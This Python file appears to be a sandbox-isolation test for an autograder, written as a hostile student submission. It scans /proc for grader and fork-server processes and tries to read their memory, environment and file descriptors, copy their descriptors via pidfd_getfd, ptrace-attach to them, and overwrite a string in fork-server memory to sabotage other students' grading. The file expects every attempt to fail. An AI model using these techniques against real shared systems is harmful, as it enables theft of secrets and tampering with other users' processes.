"""A submission goes after every grader process it can see, through /proc and pidfds.

Graded after the reference decaying_cosine.py (as zz_attack.py), so it scores full marks
itself. Targets: every process of this grading run (below its highest ancestor that is
the grader command) that mentions `grader`, or in a jail every process it sees, but
itself and its own children, and every /proc/<pid> it cannot read at all: the fork
server that forked it (its parent; grade-all), another worker's fork server, another
student's process graded at the same time, the grading process. With WAIT_S > 0 it first
waits up to WAIT_S seconds for another submission's process (a fork of a fork server
that is not itself) to appear.

For each target it tries, and records the pids where it worked:
  mem           open /proc/<pid>/mem read-write and read a page of it
  environ       read /proc/<pid>/environ
  fd            list /proc/<pid>/fd
  mountinfo     read /proc/<pid>/mountinfo, recorded as [pid, lines it has that
                /proc/self/mountinfo has not, its command line] when there are such lines
  signal        kill(pid, 0) (only where /proc numbers pids as kill() does)
  pidfd_open    pidfd_open(pid) (through a /proc/<pid> directory fd when the pid
                numbering differs), then with that pidfd:
  pidfd_signal  pidfd_send_signal(fd, 0)
  pidfd_getfd   [pid, fd, what it is] of each fd 0..63 copied into this process
  vm_readv      process_vm_readv of one word
  kcmp          kcmp(self, pid, KCMP_VM)
  ptrace        PTRACE_ATTACH
and against each fork server the attack of attack_zygote_ptrace.py through
/proc/<pid>/mem: poke "decaying_cosine" -> "decaying_cosinX" in its interned string,
so every later fork cannot find a student's function (`injected`).

Prints one line `PROCESS-ATTACK {json}` with those lists and `targets`, `fork_servers`,
`other_submission` (pids it found), `uids` ({pid: real uid} of the targets it can read)
and `self` (its own uids, capability sets, NoNewPrivs, Seccomp). Expected: every list empty, nothing injected, and
the next student of the same fork server keeps full marks.
"""
import ctypes
import json
import os
import sys
import time

WAIT_S = float("{WAIT_S}")
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
SYS = {"pidfd_open": 434, "pidfd_getfd": 438, "pidfd_send_signal": 424, "kcmp": 312,
       "process_vm_readv": 310}
KCMP_VM, PTRACE_ATTACH, PTRACE_DETACH = 1, 16, 17


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def syscall(name, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(SYS[name]), *[ctypes.c_long(a) for a in args])
    return result, ctypes.get_errno()


def read(path, n=4096):
    with open(path, "rb") as fh:
        return fh.read(n)


def status(pid):
    fields = {}
    for line in read(f"/proc/{pid}/status", 1 << 16).decode().splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return fields


def own_pid():
    return int(os.readlink("/proc/self"))   # as /proc numbers it


def processes():
    """{pid: (ppid, argv as bytes joined by spaces, is a grading process)} of what /proc shows."""
    found = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                argv = read(f"/proc/{entry}/cmdline").rstrip(b"\0").split(b"\0")
                grading = (os.path.basename(argv[0]) == b"grader"
                           or any(a == b"-m" and b == b"grader" for a, b in zip(argv, argv[1:])))
                found[int(entry)] = (int(status(entry).get("PPid", 0)), b" ".join(argv), grading)
            except (OSError, ValueError):
                pass
    return found


def descendants(table, top):
    found = {top}
    for _ in range(8):
        found |= {p for p, row in table.items() if row[0] in found}
    return found


def targets():
    """The processes of this grading run (below our highest ancestor that is the grader
    command) that mention `grader`, or, with no such ancestor (a jail with its own pid
    namespace shows only its own processes), every process; never ours."""
    table, me = processes(), own_pid()
    top, pid = None, me
    while pid in table and table[pid][0] in table:
        pid = table[pid][0]
        if table[pid][2]:
            top = pid
    mine = descendants(table, me)
    run = descendants(table, top) if top else set(table)
    found = {p: table[p][1] for p in run - mine if top is None or b"grader" in table[p][1]}
    # /proc entries we cannot even read (covered): targets as well, the parent above all;
    # but not one readable a moment later and then not of this run (another process of
    # the machine that was starting or exiting as we listed: another test's jail, say)
    listed = {int(e) for e in os.listdir("/proc") if e.isdigit()}
    found.update({p: b"" for p in listed - set(table) - mine
                  if top is None or not outside_run(p, top)})
    return found, table


def outside_run(pid, top):
    """True when `pid` can be read now and its ancestors do not reach `top` (the grader
    command of this run); False when it still cannot be read, or is of this run."""
    try:
        for _ in range(64):
            if pid == top:
                return False
            if pid <= 1:
                return True
            pid = int(status(pid).get("PPid", 0))
    except (OSError, ValueError):
        return False
    return False


def other_submission(found, table):
    """A fork of a fork server that is not us."""
    return [p for p, cmd in found.items() if b"forkserver" in cmd
            and b"forkserver" in table.get(table[p][0], (0, b"", False))[1]]


def poke(pid):
    """attack_zygote_ptrace.py's poke, through /proc/<pid>/mem instead of ptrace."""
    name = sys.intern("decaying_cosine")
    raw = ctypes.string_at(id(name), 128)
    offset = raw.find(b"decaying_cosine\0")
    if offset < 0:
        return "failed: string layout not understood"
    target = id(name) + offset + len("decaying_cosin")
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError as err:
        return f"failed: {err.strerror}"
    try:
        if os.pread(fd, 1, target) != b"e":
            return "failed: memory does not match"
        os.pwrite(fd, b"X", target)
        return f"injected pid={pid}"
    except OSError as err:
        return f"failed: {err.strerror}"
    finally:
        os.close(fd)


def attack(pid, fork_server, same_numbering, own_mounts, seen):
    def worked(key, value=None):
        seen[key].append(pid if value is None else value)

    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        try:
            os.pread(fd, 8, 0x400000)
        except OSError:
            pass
        os.close(fd)
        worked("mem")
    except OSError:
        pass
    for key, path in (("environ", "environ"), ("fd", "fd")):
        try:
            read(f"/proc/{pid}/{path}") if key == "environ" else os.listdir(f"/proc/{pid}/fd")
            worked(key)
        except OSError:
            pass
    try:
        extra = set(read(f"/proc/{pid}/mountinfo", 1 << 20).splitlines()) - own_mounts
        if extra:
            try:
                cmd = read(f"/proc/{pid}/cmdline", 200).replace(b"\0", b" ").decode()
            except OSError:
                cmd = "?"
            worked("mountinfo", [pid, len(extra), cmd])
    except OSError:
        pass
    if same_numbering:
        try:
            os.kill(pid, 0)
            worked("signal")
        except OSError:
            pass
    pidfd, _err = syscall("pidfd_open", pid, 0) if same_numbering else (-1, 0)
    if pidfd < 0:
        try:
            pidfd = os.open(f"/proc/{pid}", os.O_DIRECTORY | os.O_RDONLY)
        except OSError:
            pidfd = -1
    elif pidfd >= 0:
        worked("pidfd_open")
    if pidfd >= 0:
        if syscall("pidfd_send_signal", pidfd, 0, 0, 0)[0] == 0:
            worked("pidfd_signal")
        for target_fd in range(64):
            got, _ = syscall("pidfd_getfd", pidfd, target_fd, 0)
            if got >= 0:
                try:
                    what = os.readlink(f"/proc/self/fd/{got}")
                except OSError:
                    what = "?"
                worked("pidfd_getfd", [pid, target_fd, what])
                os.close(got)
        os.close(pidfd)
    if same_numbering:
        word = ctypes.c_long(0)
        local = IoVec(ctypes.addressof(word), 8)
        remote = IoVec(id(sys.intern("decaying_cosine")), 8)
        if syscall("process_vm_readv", pid, ctypes.addressof(local), 1,
                    ctypes.addressof(remote), 1, 0)[0] == 8:
            worked("vm_readv")
        if syscall("kcmp", os.getpid(), pid, KCMP_VM, 0, 0)[0] >= 0:
            worked("kcmp")
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            worked("ptrace")
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    if fork_server:
        seen["injected"].append(poke(pid))


def main():
    keys = ("mem", "environ", "fd", "mountinfo", "signal", "pidfd_open", "pidfd_signal",
            "pidfd_getfd", "vm_readv", "kcmp", "ptrace", "injected")
    seen = {k: [] for k in keys}
    deadline = time.monotonic() + WAIT_S
    found, table = targets()
    while WAIT_S > 0 and not other_submission(found, table) and time.monotonic() < deadline:
        time.sleep(0.05)
        found, table = targets()
    seen["other_submission"] = other_submission(found, table)
    seen["targets"] = sorted(found)
    me = status("self")
    seen["self"] = {"uid": [int(u) for u in me["Uid"].split()],
                    "caps": [int(me[k], 16) for k in ("CapEff", "CapPrm", "CapInh", "CapAmb")],
                    "no_new_privs": int(me.get("NoNewPrivs", 0)),
                    "seccomp": int(me.get("Seccomp", 0))}
    seen["uids"] = {}
    for pid in found:
        try:
            seen["uids"][pid] = int(status(pid)["Uid"].split()[0])
        except (OSError, KeyError, ValueError):
            pass
    parent = table.get(own_pid(), (0, b"", False))[0]
    seen["fork_servers"] = sorted({p for p, cmd in found.items() if b"forkserver" in cmd
                                   and p not in seen["other_submission"]}
                                  | ({parent} & set(found)))
    same_numbering = own_pid() == os.getpid()
    own_mounts = set(read("/proc/self/mountinfo", 1 << 20).splitlines())
    for pid, cmd in sorted(found.items()):
        attack(pid, pid in seen["fork_servers"], same_numbering, own_mounts, seen)
    seen["injected"] = [r for r in seen["injected"] if r.startswith("injected")] or []
    print("PROCESS-ATTACK " + json.dumps(seen), flush=True)


main()
